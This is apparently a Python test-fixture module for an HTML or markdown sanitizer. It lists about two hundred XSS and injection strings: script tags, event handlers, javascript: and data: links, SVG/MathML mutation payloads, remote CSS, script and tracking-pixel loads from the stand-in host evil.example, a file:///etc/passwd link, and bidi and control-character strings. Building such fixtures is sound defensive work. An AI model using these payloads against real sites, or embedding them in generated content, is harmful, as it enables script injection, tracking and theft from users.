"""Two hundred hostile texts: scripts, handlers, links, frames, styles, hidden characters, templates and broken markup."""

from __future__ import annotations

FLAG = "window.__ran=1"
_WRITTEN = [
    # scripts and event handlers
    f"<script>{FLAG}</script>",
    f"<ScRiPt>{FLAG}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{FLAG}//",
    f"<script type=module>{FLAG}</script>",
    f"<<script>{FLAG}//<</script>",
    f"</title><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"</pre></code></article><script>{FLAG}</script>",
    f"--><script>{FLAG}</script><!--",
    f"]]><script>{FLAG}</script>",
    f'"><script>{FLAG}</script>',
    f"'><script>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f"<img src=x onerror='{FLAG}' alt=\"",
    f"<img/src=x/onerror={FLAG}>",
    f"<body onload={FLAG}>",
    f"<details open ontoggle={FLAG}><summary>x</summary></details>",
    f"<input autofocus onfocus={FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<marquee onstart={FLAG}>x</marquee>",
    f"<div hx-get='https://evil.example' hx-trigger=load>x</div><b hx-on:load='{FLAG}'>x</b>",
    f'<a data-hit href="javascript:{FLAG}">x</a>',
    f"{{{{ 7*7 }}}} {{% raw %}} ${{{FLAG}}} <%= {FLAG} %>",
    f"<template><script>{FLAG}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>">',
    # links, images and frames
    f"[click](javascript:{FLAG})",
    f"[click](JaVaScRiPt:{FLAG})",
    f"[click](  javascript:{FLAG})",
    f"[click](java&#115;cript:{FLAG})",
    f"[click](&#x6a;avascript:{FLAG})",
    f"[click](data:text/html,<script>{FLAG}</script>)",
    f"[click](vbscript:{FLAG})",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/a)",
    f"[ref]: javascript:{FLAG}\n\n[ref]",
    f"<javascript:{FLAG}>",
    f'[x](https://evil.example/"onmouseover="{FLAG})',
    f"[x](https://evil.example 'a\" onmouseover=\"{FLAG}')",
    "![pixel](https://evil.example/pixel.png)",
    '![pixel](//evil.example/pixel.png "t")',
    f'![x" onerror="{FLAG}](https://evil.example/p.png)',
    f"![x](data:image/svg+xml,<svg onload={FLAG}>)",
    "<img src=https://evil.example/pixel.png>",
    '<iframe src="javascript:parent.__ran=1" srcdoc="<script>parent.__ran=1</script>"></iframe>',
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><form action=https://evil.example><button autofocus>x</button></form>",
    # SVG and MathML
    f"<svg onload={FLAG}></svg>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={FLAG}&gt;">',
    # huge, hidden and broken
    "x" * 20_000,
    "harbour " * 4_000,
    "[" * 500 + "](" * 500,
    "> " * 300 + "deep",
    "right-to-left \u202e<tpircs>\u202c and \u2066isolated\u2069 and \u200bzero\u200d width",
    "controls \x01\x02\x07\x08\x1b[31mred\x1b[0m \x7f",
    f"```html\n<script>{FLAG}</script>\n```\n\n    <script>{FLAG}</script>\n\n`<script>{FLAG}</script>`",
]
_TAGS = (
    "a", "article", "audio", "b", "body", "button", "details", "div", "dialog", "embed", "form", "iframe", "img", "input", "li",
    "link", "main", "math", "meta", "nav", "object", "p", "pre", "script", "section", "select", "span", "style", "svg", "table",
    "td", "textarea", "title", "track", "ul", "video", "xmp",
)  # fmt: skip
_EVENTS = (
    "onabort", "onanimationstart", "onbeforeinput", "onblur", "oncanplay", "onclick", "oncopy", "oncut", "onend", "onerror",
    "onfocus", "onfocusin", "onhashchange", "oninput", "onkeydown", "onload", "onloadstart", "onmessage", "onmouseenter",
    "onmouseover", "onpageshow", "onpaste", "onpointerenter", "onpointerover", "onpopstate", "onresize", "onscroll",
    "onsearch", "onselect", "onsubmit", "ontoggle", "ontouchstart", "ontransitionend", "onunhandledrejection", "onwheel",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JAVASCRIPT:", "java\tscript:", "\x01javascript:", "javascript&colon;", "data:text/html,", "blob:",
    "filesystem:", "view-source:", "jar:", "feed:javascript:", "about:", "ws://evil.example/", "ftp://evil.example/",
    "\\\\evil.example\\", "///evil.example/",
)  # fmt: skip
_BREAKS = ('"', "'", "`", "</", "-->", "*/", "{{", "{%", "${", "&quot;", "&#34;", "%22", "\u2028", "\u2029", "\ufeff", "\u202e")

HOSTILE = [
    *_WRITTEN,
    *[f"</{tag}><{tag} autofocus tabindex=1 src=x onfocus={FLAG} onload={FLAG} onerror={FLAG}>" for tag in _TAGS],
    *[f"\" {event}={FLAG} x='{FLAG}' {event}=\"{FLAG}" for event in _EVENTS],
    *[f"[x]({scheme}{FLAG}) <{scheme}{FLAG}> ![x]({scheme}x) <a href='{scheme}{FLAG}'>x</a>" for scheme in _SCHEMES],
    *[f"{mark}><img src=https://evil.example/x onerror={FLAG}>{mark}" for mark in _BREAKS],
    *[f"<style>@import '//evil.example/{n}'; a[href^='{n}']{{background:url(//evil.example/{n})}}</style>" for n in range(20)],
    *[f"<div hx-{name}='//evil.example/' hx-trigger=load data-hx-{name}='{FLAG}'>x</div>" for name in (
        "get", "post", "put", "delete", "patch", "boost", "vals", "headers", "swap-oob", "ext", "sse", "ws", "on:click",
    )],
    *[f"<svg><{name} href='javascript:{FLAG}' onbegin={FLAG} to='javascript:{FLAG}'></svg>" for name in (
        "a", "animate", "set", "use", "image", "foreignObject", "feImage", "script", "handler", "discard",
    )],
]  # fmt: skip
